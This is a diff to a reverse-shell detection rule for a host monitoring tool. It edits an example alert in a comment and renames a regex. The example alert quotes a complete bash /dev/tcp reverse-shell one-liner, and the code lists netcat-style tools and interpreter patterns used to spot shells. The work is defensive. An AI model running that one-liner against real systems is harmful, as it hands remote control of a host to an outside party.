@@ -4,7 +4,7 @@
 // command line: after `sh -c`, as web shells, exploits and cron jobs start it. What is typed at a prompt is redirected by that shell and names nothing.
 //
 //     $ sudo ringside run reverse-shell.js -o line
-//     time=2026-05-04T09:14:02.118204113Z level=high rule=reverse-shell message="www-data below apache2: bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
+//     time=2026-05-04T09:14:02.050000000Z level=high rule=reverse-shell message="www-data below apache2: sh -c bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\""
 //
 // Known false positives: penetration tests. Scripts that wait for a port with </dev/tcp/HOST/PORT are not reported, since no shell is at the other end.
 // References: https://attack.mitre.org/techniques/T1059/004/ https://gtfobins.github.io/#+reverse%20shell
@@ -13,7 +13,7 @@ import { shells } from "ringside:lists";
 import { shorten } from "ringside:text";
 
 const netcats = ["nc", "nc.traditional", "nc.openbsd", "ncat", "netcat", "busybox"];
-const interpreter = /^(python|perl|ruby|php|lua|node|awk|gawk|tclsh)[\d.]*$/;
+const speaksSockets = /^(python|perl|ruby|php|lua|node|awk|gawk|tclsh)[\d.]*$/;
 
 const awkTalks = /\/inet\/(tcp|udp)\/.*\|&/;
 
@@ -36,6 +36,6 @@ procs
             (name.in(netcats) && cmdline.matches(execsShell)) ||
             (name == "socat" && cmdline.matches(socatShell) && cmdline.matches(socatFar)) ||
             (name.in(["gawk", "mawk", "awk"]) && cmdline.matches(awkTalks)) ||
-            (name.matches(interpreter) && cmdline.matches(socket) && cmdline.matches(givesShell)),
+            (name.matches(speaksSockets) && cmdline.matches(socket) && cmdline.matches(givesShell)),
     )
     .alert((e) => `${e.user} below ${e.parent}: ${shorten(e.cmdline)}`);
